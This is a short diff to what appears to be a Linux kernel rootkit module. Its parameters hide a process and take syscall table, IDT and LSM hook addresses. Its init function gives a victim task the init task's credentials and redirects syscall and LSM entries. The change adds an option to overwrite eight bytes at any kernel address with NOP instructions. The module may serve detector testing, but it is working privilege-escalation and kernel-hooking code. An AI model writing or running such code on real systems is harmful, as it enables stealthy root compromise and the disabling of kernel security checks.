@@ -19,7 +19,7 @@
 #include <net/net_namespace.h>
 
 static int hide_pid, share_pid, syscall_number = -1, vector = -1;
-static unsigned long syscall_table, idt, lsm_place, traced;
+static unsigned long syscall_table, idt, lsm_place, traced, patched;
 static char *probed;
 static bool hide, packets;
 
@@ -31,6 +31,7 @@ module_param(syscall_table, ulong, 0);
 module_param(idt, ulong, 0);
 module_param(lsm_place, ulong, 0);
 module_param(traced, ulong, 0);
+module_param(patched, ulong, 0);
 module_param(probed, charp, 0);
 module_param(hide, bool, 0);
 module_param(packets, bool, 0);
@@ -112,6 +113,8 @@ static int __init plant(void)
 		rcu_assign_pointer(victim->real_cred, get_cred(init_task.real_cred));
 	if (syscall_number >= 0)
 		redirect(syscall_table + syscall_number * sizeof(void *));
+	if (patched)
+		overwrite((void *)patched, "\x90\x90\x90\x90\x90\x90\x90\x90", 8);
 	if (lsm_place)
 		redirect(lsm_place);
 	if (vector >= 0)
